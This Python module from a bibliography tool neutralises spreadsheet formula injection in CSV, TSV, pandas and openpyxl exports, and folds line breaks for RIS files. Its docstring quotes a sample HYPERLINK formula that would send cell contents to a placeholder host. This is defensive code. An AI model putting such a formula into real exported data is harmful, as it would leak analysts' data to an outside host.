"""Cells and lines that are safe to open: every CSV/TSV and line-based file bibmine writes goes through here.

Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell that begins with ``=``, ``+``,
``-`` or ``@`` as a formula, so a record title such as ``=HYPERLINK("http://x/?"&A1,"click")``
would run when an analyst opens an export.  :func:`neutralize_cell` applies the OWASP rule
("CSV injection"): a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (or the full-width ``＝ ＋ － ＠``) gets a leading ``'``, which spreadsheets show as text.

Numbers stay numbers: ``int``/``float`` (and numpy) values are written as they are, so ``-1.5``
stays the number ``-1.5``; so does a text that is exactly a decimal number (``"-1.5"``,
``"+2"``, ``"-3e-4"``): a spreadsheet reads it as that number and nothing else, which is how
the writers' own formatted scores (``f"{score:.4f}"``) and numeric cells of a user's table
keep their value.  ``"-2+3"`` or ``"-1.5 kg"`` are not numbers and are neutralised.

:func:`fold_line_breaks` turns every line break inside a value (``\\n``, ``\\r``, ``\\v``,
``\\f``, ``\\x1c-\\x1e``, ``\\x85``, ``\\u2028``, ``\\u2029``) into one space, for line-based
formats (RIS, VOSviewer text files) where a break inside a value would start a new field or
record.

>>> neutralize_cell('=HYPERLINK("http://x")'), neutralize_cell("-2+3"), neutralize_cell("@SUM(1)")
('\\'=HYPERLINK("http://x")', "'-2+3", "'@SUM(1)")
>>> neutralize_cell(-1.5), neutralize_cell("-1.5"), neutralize_cell("Soil - water"), neutralize_cell(None)
(-1.5, '-1.5', 'Soil - water', None)
>>> fold_line_breaks("title\\nER  - \\r\\n\\u2028TY  - JOUR")
'title ER  - TY  - JOUR'
"""

from __future__ import annotations

import csv
import numbers
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, TextIO

#: first characters that make a spreadsheet evaluate a cell (OWASP), plus their full-width forms
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_DECIMAL = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_LINE_BREAKS = re.compile(r"[ \t]*[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]+[ \t]*")


def neutralize_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would evaluate; anything else unchanged.

    ``None``, ``bool`` and numbers are returned as they are; other objects are judged by ``str(value)``
    (what the csv module writes).
    """
    if value is None or isinstance(value, bool | numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_START) and not _DECIMAL.fullmatch(text):
        return "'" + text
    return value


def restore_cell(text: str) -> str:
    """Undo :func:`neutralize_cell` on a cell read back from a file bibmine wrote.

    >>> restore_cell("'=1+1"), restore_cell("'quoted"), restore_cell("=1")
    ('=1+1', "'quoted", '=1')
    """
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def neutralize_row(row: Iterable[Any]) -> list[Any]:
    return [neutralize_cell(cell) for cell in row]


def fold_line_breaks(text: str) -> str:
    """Each run of line breaks (and the blanks around it) inside ``text`` becomes one space."""
    return _LINE_BREAKS.sub(" ", text)


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`neutralize_cell`."""

    def __init__(self, fh: TextIO, dialect: str | type[csv.Dialect] | csv.Dialect = "excel", **fmtparams: Any):
        self._writer = csv.writer(fh, dialect, **fmtparams)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralize_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(fh: TextIO, dialect: str | type[csv.Dialect] | csv.Dialect = "excel", **fmtparams: Any) -> SafeWriter:
    """Drop-in for ``csv.writer(fh, ...)`` that neutralises formula cells."""
    return SafeWriter(fh, dialect, **fmtparams)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose header and values go through :func:`neutralize_cell`."""

    def __init__(self, f: TextIO, fieldnames: Sequence[str], *args: Any, **kwds: Any):
        super().__init__(f, fieldnames, *args, **kwds)
        self.writer = SafeWriter(f, self.writer.dialect)


def write_rows(path: str | Path, header: Sequence[Any] | None, rows: Iterable[Iterable[Any]], *,
               delimiter: str = ",", encoding: str = "utf-8") -> Path:
    """Write a CSV (or, with ``delimiter="\\t"``, a TSV) file of neutralised cells; return its path."""
    path = Path(path)
    with open(path, "w", encoding=encoding, newline="") as fh:
        writer = SafeWriter(fh, delimiter=delimiter)
        if header is not None:
            writer.writerow(header)
        writer.writerows(rows)
    return path


def neutralize_frame(frame):
    """A copy of a pandas DataFrame with its text cells and column names neutralised; numeric columns untouched."""
    from pandas.api.types import is_bool_dtype, is_datetime64_any_dtype, is_numeric_dtype

    out = frame.copy()
    for column in out.columns:
        dtype = out[column].dtype
        if not (is_numeric_dtype(dtype) or is_bool_dtype(dtype) or is_datetime64_any_dtype(dtype)):
            out[column] = out[column].map(neutralize_cell).astype(object)
    out.columns = [neutralize_cell(c) for c in out.columns]
    return out


def text_not_formulas(book) -> int:
    """Store every formula cell of an openpyxl workbook as the text it holds; return how many.

    openpyxl takes any string that begins with ``=`` for a formula; bibmine writes no formulas, so
    such a cell can only be a record's or a user's text.  Call it just before ``book.save``.
    """
    changed = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed
